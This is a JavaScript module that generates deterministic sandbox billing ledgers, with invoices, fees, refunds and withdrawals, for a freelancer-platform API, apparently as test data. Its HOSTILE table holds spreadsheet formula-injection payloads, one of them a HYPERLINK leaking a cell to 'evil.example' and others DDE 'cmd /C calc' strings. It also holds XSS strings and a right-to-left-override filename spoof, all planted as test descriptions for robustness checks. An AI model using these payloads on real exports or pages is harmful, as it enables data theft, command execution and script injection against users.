'use strict';
// Deterministic demo ledgers for accountingEntity and transactionHistory
// (schema/billing.graphql): 24 months of transactions for Ada's
// organization and for Grace's agency, in USD and EUR.
//
// Built once at load time from hand-written contract tables plus a seeded
// PRNG (mulberry32) for the weekly hours: the same rows on every run. Dates
// are not stored: every row stores `daysAgo`, whole days before the sandbox's
// current UTC date, and rows are rendered with the sandbox clock
// (config.now()) at request time, so the ledger moves with clock_offset_s.
//
// Money is integer cents everywhere (Number, far below 2^53); rawValue and
// displayValue are produced from cents by string arithmetic, never floats.
//
// An invoice is the set of rows sharing relatedInvoiceId; all rows of one
// invoice have the same date. Withdrawals and their fees belong to no
// invoice. See README.md "Billing" for what tests may rely on.

const data = require('./data');
const { mulberry32, deepFreeze } = require('./seeded');

const SEED = 20240817;
const LEDGER_DAYS = 730; // rows from 729 days ago up to today
const REVIEW_DAYS = 5; // hourly invoices are Pending until 5 days old
const FEE_PERCENT = 10; // Upwork's service fee, rounded half up to the cent
const WITHDRAW_EVERY = 14; // withdrawal days: daysAgo % 14 == 10
const WITHDRAW_MIN_CENTS = 10000; // withdraw only from a balance of 100.00 or more
const WITHDRAW_KEEP_STEP = 5000; // withdraw in multiples of 50.00
const DAY_MS = 24 * 60 * 60 * 1000;

// ---- money: integer cents to Upwork's Money ----------------------------------------

const CURRENCY_SYMBOLS = { USD: '$', EUR: '€' };

// The shortest decimal string: 150000 -> "1500", 1250 -> "12.5", 1 -> "0.01",
// -99 -> "-0.99", 0 -> "0" (never "-0").
function rawValue(cents) {
  const abs = Math.abs(cents);
  const whole = String(Math.floor(abs / 100));
  const frac = String(abs % 100).padStart(2, '0').replace(/0+$/, '');
  return `${cents < 0 ? '-' : ''}${whole}${frac ? `.${frac}` : ''}`;
}

// "$1,500.00", "-€12.50", "$0.00".
function displayValue(cents, currency) {
  const abs = Math.abs(cents);
  const whole = String(Math.floor(abs / 100)).replace(/\B(?=(\d{3})+(?!\d))/g, ',');
  return `${cents < 0 ? '-' : ''}${CURRENCY_SYMBOLS[currency]}${whole}.${String(abs % 100).padStart(2, '0')}`;
}

function money(cents, currency) {
  if (cents === null || cents === undefined) return null;
  return { rawValue: rawValue(cents), currency, displayValue: displayValue(cents, currency) };
}

// FEE_PERCENT of an amount, rounded half up to the cent (of the absolute value).
function serviceFee(cents) {
  return Math.floor((Math.abs(cents) * FEE_PERCENT + 50) / 100);
}

// ---- dates: whole UTC days ------------------------------------------------------------

// Days since the epoch of the sandbox's current UTC date.
function epochDay(nowMs) {
  return Math.floor(nowMs / DAY_MS);
}

function isoDate(day) {
  return new Date(day * DAY_MS).toISOString().slice(0, 10);
}

// Upwork's shape as a practitioner reports it: 2026-04-26T00:00:00+0000.
function timestamp(day) {
  return `${isoDate(day)}T00:00:00+0000`;
}

// ---- people, clients, agency -------------------------------------------------------------

function person(user) {
  return { id: user.id, rid: Number(user.rid), name: user.name };
}

const ADA = person(data.USERS.ada);
const GRACE = person(data.USERS.grace);
// Members of Grace's agency who cannot sign in to the sandbox.
const BOOTH = { id: '1417508230189015040', rid: 5120790, name: 'Kathleen Booth' };
const SAMMET = { id: '1417508230193209344', rid: 5120813, name: 'Jean Sammet' };

const AGENCY_ORG = data.ORGANIZATIONS['1417508230176432129'];
const AGENCY = { name: AGENCY_ORG.name, id: AGENCY_ORG.id, rid: AGENCY_ORG.rid };

// Client companies, ids derived from k: numeric strings of one length, and
// references and accounting entities that fit an Int.
function client(k, name) {
  return {
    name,
    companyId: String(1484000000000000000n + BigInt(k) * 7340033n),
    companyRef: 6100000 + k * 137,
    teamId: String(1484000000100000000n + BigInt(k) * 7340033n),
    teamRef: 6100000 + k * 137 + 1,
    ace: 1500000000 + k * 104729,
  };
}

const CLIENTS = {
  northwind: client(1, 'Northwind Analytics'),
  lumen: client(2, 'Lumen Labs GmbH'),
  blueHarbor: client(3, 'Blue Harbor Ltd'),
  cobalt: client(4, 'Cobalt Group'),
  kestrel: client(5, 'Kestrel Media'),
  quill: client(6, 'Quill & Ink "Media", Ltd. <b>bold</b>'),
  summit: client(7, 'Summit Health'),
  alnoor: client(8, 'شركة النور للبرمجيات'),
  atlas: client(9, 'Atlas Partners'),
  helix: client(10, 'Helix Digital'),
  orchard: client(11, 'Orchard Studio'),
};

// ---- hostile text (README.md "Billing: hostile rows") ----------------------------------

const LONG_WORD = 'Supercalifragilisticexpialidocious'.repeat(10); // 340 chars, no spaces
const HOSTILE = {
  formulaEquals: '=HYPERLINK("http://evil.example/?leak="&A1,"Refund details")',
  formulaPlus: '+SUM(1+1)*cmd|\' /C calc\'!A0',
  formulaMinus: '-2+3+cmd|\' /C notepad\'!\'A1\'',
  formulaAt: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  formulaTab: '\t=1+2 after a tab',
  formulaCr: '\r=1+2 after a carriage return',
  quotedFormula: '"=quoted formula", still text',
  script: '<script>alert("billing")</script> Bonus for the sprint',
  img: '<img src=x onerror=alert(1)> thanks!',
  commasQuotes: 'Payment, with commas, "double quotes", and \'single quotes\'',
  newlines: 'Line one of the note\nLine two, after a newline\r\nLine three, after CRLF',
  arabic: 'مكافأة على العمل الممتاز — شكراً',
  hebrew: 'בונוס על "עבודה" מצוינת, תודה',
  rlo: 'Invoice \u202Efdp.exe\u202C for review',
  longWord: `Thanks ${LONG_WORD} indeed`,
  entities: 'R&amp;D &lt;b&gt;not bold&lt;/b&gt; &quot;as written&quot;',
};

// ---- ledger specifications ---------------------------------------------------------------
//
// hourly: [[developer, rate cents/hour], ...], invoiced weekly on the days
// with daysAgo % 7 == 1 from `from` down to `to` (days ago, inclusive),
// for the 7 days before. fixed: milestones [daysAgo, cents, title, invoiceId?].
// bonuses: [contract, daysAgo, cents, comment, invoiceId?].
// refunds: [contract, daysAgo, percent, refundedOnOrBefore]: a refund of
// that share of the contract's latest hourly earning on or before that day.

const LEDGER_SPECS = [
  {
    orgId: '1390042875009613825',
    aceId: '1203457761',
    recordBase: 610000000,
    invoiceBase: 710000000,
    seed: SEED + 1,
    agency: null,
    membership: { cents: 1999, label: 'Freelancer Plus membership', every: 30, from: 690 },
    withdrawal: {
      USD: { method: 4417702, label: 'Withdrawal to bank account ending in 4821', fee: 99 },
      EUR: { method: 4417731, label: 'Withdrawal to IBAN ending in 7712', fee: 200 },
    },
    contracts: {
      A1: { client: CLIENTS.northwind, id: 38010007, title: 'Data pipeline maintenance', currency: 'USD', hourly: [[ADA, 6500]], from: 728, to: 0 },
      A2: { client: CLIENTS.lumen, id: 38020014, title: 'Statistical modelling for trials', currency: 'EUR', hourly: [[ADA, 5500]], from: 700, to: 300 },
      A3: {
        client: CLIENTS.blueHarbor, id: 38030021, title: 'Analytical engine documentation', currency: 'USD',
        fixed: [[620, 150000, 'Milestone 1: Requirements and outline'], [590, 240000, 'Milestone 2: Draft of the notes'], [560, 99999, 'Milestone 3: Final notes, with diagrams']],
      },
      A4: {
        client: CLIENTS.cobalt, id: 38040028, title: 'Bernoulli numbers program', currency: 'EUR',
        fixed: [[270, 180000, 'Phase 1: Algorithm'], [230, 275050, 'Phase 2: Implementation, tests, and "edge cases"'], [200, 60000, 'Phase 3: <script>alert("milestone")</script> Handover']],
      },
      A5: { client: CLIENTS.kestrel, id: 38050035, title: 'Video pipeline scripting', currency: 'USD', hourly: [[ADA, 8250]], from: 250, to: 0, purchaseOrderNumber: 'PO-2291-A' },
      A6: {
        client: CLIENTS.quill, id: 38060042, title: 'Complete platform migration', currency: 'USD',
        fixed: [[95, 12345678, 'Milestone 1: Complete platform migration', '719000001']],
      },
    },
    bonuses: [
      ['A1', 500, 1, 'Test payment', '719000002'],
      // Cent traps, all on one day (so in one month): summed as doubles in
      // this order they make 6.089999999999999, not 6.09; 0.29, 4.35 and
      // 1.15 times 100 truncate a cent short; 0.7 + 0.1 != 0.8.
      ['A1', 40, 10, 'Tip'], ['A1', 40, 10, 'Tip'], ['A1', 40, 10, 'Tip'],
      ['A1', 40, 435, 'Tip'], ['A1', 40, 115, 'Tip'], ['A1', 40, 29, 'Tip'],
      ['A4', 40, 70, 'Trinkgeld'], ['A4', 40, 10, 'Trinkgeld'],
      ['A1', 640, 25000, 'Thanks for the quick turnaround'],
      ['A5', 180, 50000, 'Great work on the render farm'],
      ['A1', 150, 2500, HOSTILE.formulaEquals, '719000003'],
      ['A5', 120, 1500, HOSTILE.formulaPlus, '719000004'],
      ['A5', 90, 1234, HOSTILE.formulaMinus, '719000005'],
      ['A1', 60, 4321, HOSTILE.formulaAt, '719000006'],
      ['A1', 33, 100, HOSTILE.formulaTab],
      ['A1', 31, 100, HOSTILE.formulaCr],
      ['A1', 26, 250, HOSTILE.quotedFormula],
      ['A2', 400, 7500, HOSTILE.commasQuotes, '719000007'],
      ['A2', 380, 5000, HOSTILE.newlines, '719000008'],
      ['A1', 20, 3000, HOSTILE.script, '719000009'],
      ['A5', 18, 2000, HOSTILE.img],
      ['A1', 12, 999, HOSTILE.rlo],
      ['A4', 210, 4000, HOSTILE.arabic],
      ['A1', 250, 1000, HOSTILE.longWord],
      ['A3', 555, 1000, HOSTILE.entities],
    ],
    refunds: [['A1', 300, 30, 309], ['A5', 150, 100, 155]],
  },
  {
    orgId: '1417508230176432129',
    aceId: '1304518832',
    recordBase: 620000000,
    invoiceBase: 720000000,
    seed: SEED + 2,
    agency: AGENCY,
    membership: { cents: 2999, label: 'Agency Plus membership', every: 30, from: 700 },
    withdrawal: {
      USD: { method: 5520114, label: 'Withdrawal to bank account ending in 0042', fee: 99 },
      EUR: { method: 5520139, label: 'Withdrawal to IBAN ending in 3391', fee: 200 },
    },
    contracts: {
      G1: { client: CLIENTS.summit, id: 39010011, title: 'Compiler toolchain upgrade', currency: 'USD', hourly: [[GRACE, 9500], [BOOTH, 7000]], from: 729, to: 0 },
      G2: { client: CLIENTS.alnoor, id: 39020022, title: 'COBOL modernisation', currency: 'EUR', hourly: [[SAMMET, 6000]], from: 600, to: 100 },
      G3: {
        client: CLIENTS.atlas, id: 39030033, title: 'Data warehouse rebuild', currency: 'USD',
        fixed: [[400, 500000, 'Milestone 1: Schema design'], [350, 12345678, 'Milestone 2: Full rebuild', '729000001'], [300, 250025, 'Milestone 3: Handover, docs, and training']],
      },
      G4: {
        client: CLIENTS.helix, id: 39040044, title: 'Mobile app stabilisation', currency: 'EUR',
        fixed: [[180, 120000, 'Sprint 1'], [150, 120000, 'Sprint 2 — "stabilisation", fixes'], [110, 33333, 'Sprint 3: \u202Eexe.ecnanif\u202C review']],
      },
      G5: { client: CLIENTS.orchard, id: 39050055, title: 'Design system tooling', currency: 'USD', hourly: [[BOOTH, 6800], [SAMMET, 6200]], from: 300, to: 0 },
    },
    bonuses: [
      ['G1', 450, 1, 'Test payment', '729000002'],
      ['G1', 45, 10, 'Tip'], ['G1', 45, 10, 'Tip'], ['G1', 45, 10, 'Tip'],
      ['G1', 45, 435, 'Tip'], ['G1', 45, 115, 'Tip'], ['G1', 45, 29, 'Tip'],
      ['G2', 45, 70, 'Tip'], ['G2', 45, 10, 'Tip'],
      ['G1', 600, 100000, 'Release bonus for the team'],
      ['G1', 200, 2500, HOSTILE.formulaEquals, '729000003'],
      ['G5', 80, 1500, HOSTILE.formulaPlus, '729000004'],
      ['G5', 70, 1234, HOSTILE.formulaMinus, '729000005'],
      ['G1', 65, 4321, HOSTILE.formulaAt, '729000006'],
      ['G1', 30, 3000, HOSTILE.script],
      ['G1', 28, 7500, HOSTILE.commasQuotes],
      ['G1', 27, 5000, HOSTILE.newlines],
      ['G2', 300, 4000, HOSTILE.hebrew],
      ['G5', 22, 2000, HOSTILE.img],
    ],
    refunds: [['G1', 400, 50, 410], ['G5', 100, 25, 105]],
  },
  {
    // Grace's own freelancer organization: an accounting entity, no rows.
    orgId: '1417508230172237824',
    aceId: '1304518840',
    recordBase: 630000000,
    invoiceBase: 730000000,
    seed: SEED + 3,
    agency: null,
    membership: null,
    withdrawal: {},
    contracts: {},
    bonuses: [],
    refunds: [],
  },
];

// ---- generation: documents (invoices, withdrawals) of rows ------------------------------

// The fields a row takes from its contract (and the developer who worked).
function assignmentOf(spec, contract, developer) {
  const c = contract.client;
  return {
    contractKey: contract.key,
    relatedAssignment: contract.id,
    relatedAccountingEntity: c.ace,
    assignmentCompanyName: c.name,
    assignmentTeamCompanyId: c.companyId,
    assignmentTeamCompanyReference: c.companyRef,
    assignmentTeamId: c.teamId,
    assignmentTeamReference: c.teamRef,
    assignmentTeamUserId: developer.id,
    assignmentTeamUserReference: developer.rid,
    assignmentDeveloperName: developer.name,
    assignmentAgencyName: spec.agency ? spec.agency.name : null,
    purchaseOrderNumber: contract.purchaseOrderNumber || null,
    _agencyId: spec.agency ? spec.agency.id : null,
    _agencyRid: spec.agency ? spec.agency.rid : null,
  };
}

const NO_ASSIGNMENT = {
  contractKey: null,
  relatedAssignment: null,
  relatedAccountingEntity: null,
  assignmentCompanyName: null,
  assignmentTeamCompanyId: null,
  assignmentTeamCompanyReference: null,
  assignmentTeamId: null,
  assignmentTeamReference: null,
  assignmentTeamUserId: null,
  assignmentTeamUserReference: null,
  assignmentDeveloperName: null,
  assignmentAgencyName: null,
  purchaseOrderNumber: null,
  _agencyId: null,
  _agencyRid: null,
};

function hoursText(minutes) {
  return `${Math.floor(minutes / 60)}:${String(minutes % 60).padStart(2, '0')}`;
}

// An earning plus its service fee, one invoice.
function earningDocument(daysAgo, currency, assignment, earning, invoiceId = null) {
  const feeCents = serviceFee(earning.cents);
  const earningRow = { ...assignment, currency, paymentGuaranteed: true, ...earning };
  const feeRow = {
    ...assignment,
    currency,
    type: 'APAdjustment',
    accountingSubtype: 'Service Fee',
    cents: -feeCents,
    hourly: earning.hourly,
    paymentGuaranteed: null,
    describe: (related) => ({
      description: `Service Fee for Ref ID ${related.recordId}`,
      descriptionUI: `Service Fee - ${earning.descriptionUIBase || earning.descriptionUI}`,
    }),
    relatedRow: earningRow,
  };
  return { daysAgo, priority: 1, isInvoice: true, invoiceId, rows: [earningRow, feeRow] };
}

function hourlyDocuments(spec, contract, rnd) {
  const docs = [];
  for (let d = contract.from; d >= contract.to; d--) {
    if (d % 7 !== 1) continue;
    for (const [developer, rate] of contract.hourly) {
      if (rnd() < 0.08) continue; // a week off
      const minutes = 10 * (24 + Math.floor(rnd() * 217)); // 4:00 to 40:00 hours
      const cents = Math.floor((rate * minutes + 30) / 60);
      const assignment = assignmentOf(spec, contract, developer);
      const ui = `Hourly - ${hoursText(minutes)} hrs @ ${displayValue(rate, contract.currency)}/hr - ${contract.title}`;
      docs.push(earningDocument(d, contract.currency, assignment, {
        type: 'APInvoice',
        accountingSubtype: 'Hourly',
        cents,
        hourly: true,
        period: [d + 7, d + 1],
        descriptionUI: ui,
      }));
    }
  }
  return docs;
}

// Fixed-price work is credited to the organization's owner.
function ownerOf(spec) {
  return spec.agency ? GRACE : ADA;
}

function fixedDocuments(spec, contract) {
  return contract.fixed.map(([d, cents, title, invoiceId]) => earningDocument(d, contract.currency, assignmentOf(spec, contract, ownerOf(spec)), {
    type: 'APInvoice',
    accountingSubtype: 'Fixed Price',
    cents,
    hourly: false,
    description: title,
    descriptionUI: `Fixed Price - ${contract.title}`,
  }, invoiceId || null));
}

function bonusDocument(spec, [key, d, cents, comment, invoiceId]) {
  const contract = { ...spec.contracts[key], key };
  const developer = contract.hourly ? contract.hourly[0][0] : ownerOf(spec);
  const doc = earningDocument(d, contract.currency, assignmentOf(spec, contract, developer), {
    type: 'APAdjustment',
    accountingSubtype: 'Bonus',
    cents,
    hourly: false,
    description: comment,
    descriptionUI: comment,
    descriptionUIBase: `Bonus - ${contract.title}`,
  }, invoiceId || null);
  doc.priority = 2;
  return doc;
}

// A refund to the client of part of an earlier hourly earning, with the
// matching share of the service fee returned: a credit invoice of its own.
function refundDocument(spec, [key, d, percent, onOrBefore], docs) {
  const earlier = docs
    .filter((doc) => doc.rows[0].contractKey === key && doc.rows[0].accountingSubtype === 'Hourly' && doc.daysAgo >= onOrBefore)
    .sort((a, b) => a.daysAgo - b.daysAgo)[0];
  if (!earlier) throw new Error(`data-billing: no earning of ${key} to refund on or before ${onOrBefore} days ago`);
  const [earning, fee] = earlier.rows;
  const cents = Math.floor((earning.cents * percent) / 100);
  const assignment = { ...earning };
  for (const k of ['type', 'accountingSubtype', 'cents', 'hourly', 'period', 'description', 'descriptionUI', 'describe', 'relatedRow']) delete assignment[k];
  const refundRow = {
    ...assignment,
    type: 'APAdjustment',
    accountingSubtype: 'Refund',
    cents: -cents,
    hourly: false,
    paymentGuaranteed: null,
    relatedRow: earning,
    describe: (related) => ({
      description: `Refund to client of ${percent}% of Ref ID ${related.recordId}`,
      descriptionUI: `Refund - ${spec.contracts[key].title}`,
    }),
  };
  const feeReturn = {
    ...assignment,
    type: 'APAdjustment',
    accountingSubtype: 'Service Fee',
    cents: serviceFee(cents),
    hourly: false,
    paymentGuaranteed: null,
    relatedRow: fee,
    describe: (related) => ({
      description: `Service Fee refund for Ref ID ${related.recordId}`,
      descriptionUI: `Service Fee refund - ${spec.contracts[key].title}`,
    }),
  };
  return { daysAgo: d, priority: 3, isInvoice: true, invoiceId: null, rows: [refundRow, feeReturn] };
}

function membershipDocuments(spec) {
  const m = spec.membership;
  if (!m) return [];
  const docs = [];
  for (let d = m.from; d >= 0; d -= m.every) {
    docs.push({
      daysAgo: d,
      priority: 4,
      isInvoice: true,
      invoiceId: null,
      rows: [{ ...NO_ASSIGNMENT, currency: 'USD', type: 'ARInvoice', accountingSubtype: 'Membership Fee', cents: -m.cents, hourly: false, paymentGuaranteed: null, description: m.label, descriptionUI: m.label }],
    });
  }
  return docs;
}

// A withdrawal of the balance in steps of 50.00 (after the fee), and its fee.
function withdrawalDocument(spec, d, currency, balance) {
  const w = spec.withdrawal[currency];
  const available = balance - w.fee;
  const cents = available - (available % WITHDRAW_KEEP_STEP);
  const withdrawalRow = {
    ...NO_ASSIGNMENT, currency, type: 'APPayment', accountingSubtype: 'Withdrawal', cents: -cents, hourly: false,
    paymentGuaranteed: null, description: w.label, descriptionUI: w.label, relatedUserPaymentMethod: w.method, paymentCents: cents,
  };
  const feeRow = {
    ...NO_ASSIGNMENT, currency, type: 'APAdjustment', accountingSubtype: 'Withdrawal Fee', cents: -w.fee, hourly: false,
    paymentGuaranteed: null, relatedRow: withdrawalRow, relatedUserPaymentMethod: w.method,
    describe: (related) => ({ description: `Withdrawal Fee for Ref ID ${related.recordId}`, descriptionUI: 'Withdrawal Fee' }),
  };
  return { daysAgo: d, priority: 9, isInvoice: false, invoiceId: null, rows: [withdrawalRow, feeRow] };
}

// The final, frozen record of one row (README.md "Billing" lists its fields).
function finalRow(row, seq, recordId, invoiceId, balance, daysAgo) {
  const related = row.relatedRow ? row.relatedRow._record : null;
  const text = row.describe ? row.describe(related) : { description: row.description ?? null, descriptionUI: row.descriptionUI };
  return {
    seq,
    recordId,
    daysAgo,
    currency: row.currency,
    cents: row.cents,
    balanceCents: balance,
    type: row.type,
    accountingSubtype: row.accountingSubtype,
    description: text.description,
    descriptionUI: text.descriptionUI,
    period: row.period || null,
    hourly: row.hourly,
    paymentGuaranteed: row.paymentGuaranteed,
    relatedInvoiceId: invoiceId,
    relatedTransactionId: related ? related.recordId : null,
    relatedUserPaymentMethod: row.relatedUserPaymentMethod ?? null,
    paymentCents: row.paymentCents ?? null,
    relatedAssignment: row.relatedAssignment,
    relatedAccountingEntity: row.relatedAccountingEntity,
    assignmentCompanyName: row.assignmentCompanyName,
    assignmentTeamCompanyId: row.assignmentTeamCompanyId,
    assignmentTeamCompanyReference: row.assignmentTeamCompanyReference,
    assignmentTeamId: row.assignmentTeamId,
    assignmentTeamReference: row.assignmentTeamReference,
    assignmentTeamUserId: row.assignmentTeamUserId,
    assignmentTeamUserReference: row.assignmentTeamUserReference,
    assignmentDeveloperName: row.assignmentDeveloperName,
    assignmentAgencyName: row.assignmentAgencyName,
    purchaseOrderNumber: row.purchaseOrderNumber,
    agencyId: row._agencyId,
    agencyRid: row._agencyRid,
  };
}

// Orders the documents (oldest day first; within a day earnings, bonuses,
// refunds, membership, withdrawals), numbers rows and invoices, keeps the
// running balance per currency and inserts the withdrawals.
function buildLedger(spec) {
  const rnd = mulberry32(spec.seed);
  const contracts = Object.entries(spec.contracts).map(([key, c]) => ({ ...c, key }));
  let docs = [];
  for (const c of contracts) docs.push(...(c.hourly ? hourlyDocuments(spec, c, rnd) : fixedDocuments(spec, c)));
  docs.push(...spec.bonuses.map((b) => bonusDocument(spec, b)));
  docs.push(...spec.refunds.map((r) => refundDocument(spec, r, docs)));
  docs.push(...membershipDocuments(spec));
  docs = docs.map((doc, i) => ({ ...doc, order: i }));

  const byDay = new Map();
  for (const doc of docs) {
    if (doc.daysAgo < 0 || doc.daysAgo >= LEDGER_DAYS) throw new Error(`data-billing: a document ${doc.daysAgo} days ago is outside the ledger`);
    if (!byDay.has(doc.daysAgo)) byDay.set(doc.daysAgo, []);
    byDay.get(doc.daysAgo).push(doc);
  }
  const fixedInvoiceIds = new Set(docs.map((d) => d.invoiceId).filter(Boolean));
  const rows = [];
  const balances = new Map();
  let invoiceCounter = 0;
  const nextInvoiceId = () => {
    let id;
    do id = String(spec.invoiceBase + ++invoiceCounter); while (fixedInvoiceIds.has(id));
    return id;
  };
  const post = (doc) => {
    const invoiceId = doc.isInvoice ? doc.invoiceId || nextInvoiceId() : null;
    for (const row of doc.rows) {
      const balance = (balances.get(row.currency) || 0) + row.cents;
      balances.set(row.currency, balance);
      const seq = rows.length + 1;
      const record = finalRow(row, seq, String(spec.recordBase + seq), invoiceId, balance, doc.daysAgo);
      row._record = record;
      rows.push(record);
    }
  };
  for (let d = LEDGER_DAYS - 1; d >= 0; d--) {
    const today = (byDay.get(d) || []).sort((a, b) => a.priority - b.priority || a.order - b.order);
    today.forEach(post);
    if (d % WITHDRAW_EVERY === 10 && d >= 7) {
      for (const currency of Object.keys(spec.withdrawal)) {
        const balance = balances.get(currency) || 0;
        if (balance >= WITHDRAW_MIN_CENTS) post(withdrawalDocument(spec, d, currency, balance));
      }
    }
  }
  return { orgId: spec.orgId, aceId: spec.aceId, rows };
}

const LEDGERS = new Map(LEDGER_SPECS.map((spec) => [spec.orgId, buildLedger(spec)]));
const ORG_BY_ACE = new Map([...LEDGERS.values()].map((l) => [l.aceId, l.orgId]));
for (const l of LEDGERS.values()) deepFreeze(l);

// ---- lookups and views ---------------------------------------------------------------------

function ledgerOf(orgId) {
  return typeof orgId === 'string' && LEDGERS.has(orgId) ? LEDGERS.get(orgId) : null;
}

function aceIdOf(orgId) {
  const l = ledgerOf(orgId);
  return l ? l.aceId : null;
}

// The organization whose accounting entity this is, or null.
function orgIdOfAce(aceId) {
  return ORG_BY_ACE.get(aceId) || null;
}

// The row as TransactionHistoryRow (every documented field), for the UTC day
// `todayDay` (epochDay of the sandbox clock). rowNumber is given by the caller.
function rowView(r, todayDay, rowNumber) {
  const day = todayDay - r.daysAgo;
  const paid = !r.hourly || r.daysAgo >= REVIEW_DAYS;
  const description = r.period ? `Invoice for ${isoDate(todayDay - r.period[0])} - ${isoDate(todayDay - r.period[1])}` : r.description;
  return {
    rowNumber,
    runningChargeableBalance: money(r.balanceCents, r.currency),
    recordId: r.recordId,
    remainder: null,
    amountCreditedToUser: money(r.cents, r.currency),
    transactionReviewDueDate: r.hourly ? timestamp(day + REVIEW_DAYS) : null,
    transactionCreationDate: timestamp(day),
    relatedUserPaymentMethod: r.relatedUserPaymentMethod,
    accountingSubtype: r.accountingSubtype,
    descriptionUI: r.descriptionUI,
    relatedAssignment: r.relatedAssignment,
    amountSentInOrigCurrency: null,
    paymentGuaranteed: r.paymentGuaranteed,
    fixedPriceEARMark: null,
    relatedTransactionId: r.relatedTransactionId,
    relatedInvoiceId: r.relatedInvoiceId,
    fullyPaidDate: paid ? timestamp(r.hourly ? day + REVIEW_DAYS : day) : null,
    type: r.type,
    transactionAmount: money(r.cents, r.currency),
    relatedAccountingEntity: r.relatedAccountingEntity,
    description,
    purchaseOrderNumber: r.purchaseOrderNumber,
    assignmentAgencyName: r.assignmentAgencyName,
    assignmentCompanyName: r.assignmentCompanyName,
    assignmentDeveloperName: r.assignmentDeveloperName,
    assignmentTeamCompanyId: r.assignmentTeamCompanyId,
    assignmentTeamCompanyReference: r.assignmentTeamCompanyReference,
    assignmentTeamId: r.assignmentTeamId,
    assignmentTeamReference: r.assignmentTeamReference,
    assignmentTeamUserId: r.assignmentTeamUserId,
    assignmentTeamUserReference: r.assignmentTeamUserReference,
    payment: money(r.paymentCents, r.currency),
    paymentStatus: paid ? 'Paid' : 'Pending',
    prefix: null,
  };
}

// GET /__sandbox/transactions?org=ID: every row of the organization, oldest
// first, as the API shows it (rowNumber = position in the whole ledger),
// plus `date` (yyyy-mm-dd) and the agency ids the filters match.
function dump(orgId, nowMs) {
  const l = ledgerOf(orgId);
  if (!l) return null;
  const todayDay = epochDay(nowMs);
  return {
    organizationId: l.orgId,
    aceId: l.aceId,
    today: isoDate(todayDay),
    firstDate: isoDate(todayDay - (LEDGER_DAYS - 1)),
    rows: l.rows.map((r) => ({
      ...rowView(r, todayDay, r.seq),
      date: isoDate(todayDay - r.daysAgo),
      agencyCompanyId: r.agencyRid,
      agencyCompanyUid: r.agencyId,
    })),
  };
}

module.exports = {
  SEED, LEDGER_DAYS, REVIEW_DAYS, FEE_PERCENT, HOSTILE,
  rawValue, displayValue, money, serviceFee, epochDay, isoDate, timestamp,
  ledgerOf, aceIdOf, orgIdOfAce, rowView, dump,
};
